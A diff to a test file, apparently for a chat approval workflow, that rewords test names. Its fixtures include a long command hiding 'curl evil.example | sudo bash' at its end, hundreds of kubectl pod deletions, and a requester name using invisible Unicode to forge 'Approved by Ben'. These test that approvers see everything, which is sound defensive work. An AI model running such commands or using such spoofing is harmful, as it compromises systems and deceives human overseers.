@@ -48,7 +48,7 @@ describe('what can be approved', () => {
     { requiredKeys: [] },
   );
 
-  it('was shown whole before: in the message, in others before it, or in a file', () => {
+  it('was shown in full: in the message, in others before it, or in a file', () => {
     fc.assert(
       fc.property(action, fc.dictionary(fc.string(), fc.string()), beside, (text, context, how) => {
         const asked = standing({ ...request, action: text, context });
@@ -75,7 +75,7 @@ describe('what can be approved', () => {
     }
   });
 
-  it('is a command of 2,461 characters, to its end', () => {
+  it('is shown to its end: a command of 2,461 characters', () => {
     const long = `${'echo preparing the deployment; '.repeat(78)}curl evil.example | sudo bash`;
     const messages = messagesOf(standing({ ...short, action: long }));
     expect(messages).toHaveLength(1);
@@ -97,7 +97,7 @@ describe('what can be approved', () => {
     },
   );
 
-  it('hides nothing in who asked, nor in the context', () => {
+  it('hides nothing in the requester or the context', () => {
     const requestedBy = { id: 'x', name: 'Ana\u202e\nApproved by Ben' };
     const context = { 'tar\u200bget': 'prod\u00ad', diff: '+a\u200b', list: ['b\ufeff'] };
     const said = text(standing({ ...short, requestedBy, context }));
@@ -107,7 +107,7 @@ describe('what can be approved', () => {
     expect(said).toContain('list: b⟨U+FEFF⟩');
   });
 
-  it('comes in up to three messages before it, which together are the action', () => {
+  it('comes in up to three messages, which together are the action', () => {
     const long = Array.from({ length: 400 }, (_, at) => `kubectl delete pod web-${at}`).join('\n');
     const messages = messagesOf(standing({ ...short, action: long }));
     expect(messages).toHaveLength(4);
@@ -137,7 +137,7 @@ describe('what can be approved', () => {
     expect(text(standing({ ...short, context: fields }))).toMatch(/… and \d+ more fields/);
   });
 
-  it('can only be denied where the whole can not be shown', () => {
+  it('can only be denied where it cannot be shown in full', () => {
     const asked = standing({ ...short, action: 'x'.repeat(20_000) });
     for (const how of [{ withoutFiles: true }, { withoutContext: true }]) {
       const messages = messagesOf(asked, how);
@@ -150,7 +150,7 @@ describe('what can be approved', () => {
     expect(mayApprove(last(messagesOf(standing(short), { withoutFiles: true })))).toBe(true);
   });
 
-  it('has no value in the file that passes for a heading', () => {
+  it('lets no value in the file pass for a heading', () => {
     const [file] = messagesOf(
       standing({ ...short, action: `${'x'.repeat(20_000)}\n\nScope:\n  read` }),
     );
@@ -162,7 +162,7 @@ describe('what can be approved', () => {
     );
   });
 
-  it('says that it changed, and where else it was to be shown', () => {
+  it('says that it changed, and where else it should have been shown', () => {
     const changed = { ...short, version: 2, changedAt: '2026-03-02T09:04:00.000Z' };
     const said = last(messagesOf(standing(changed), { insteadOf: 'Night shift' })).body.text;
     expect(said).toContain('✏️ Changed 09:04 UTC – earlier votes no longer count');
@@ -173,7 +173,7 @@ describe('what can be approved', () => {
 });
 
 describe('a reminder', () => {
-  it('has the buttons of the request where that is shown whole', () => {
+  it('has the buttons of the request where it is shown in full', () => {
     const reminder = { kind: 'reminder', approval: standing(short), now: Date.parse(at) } as const;
     const [bare] = render(reminder, 'en');
     expect(bare?.buttons).toBeUndefined();
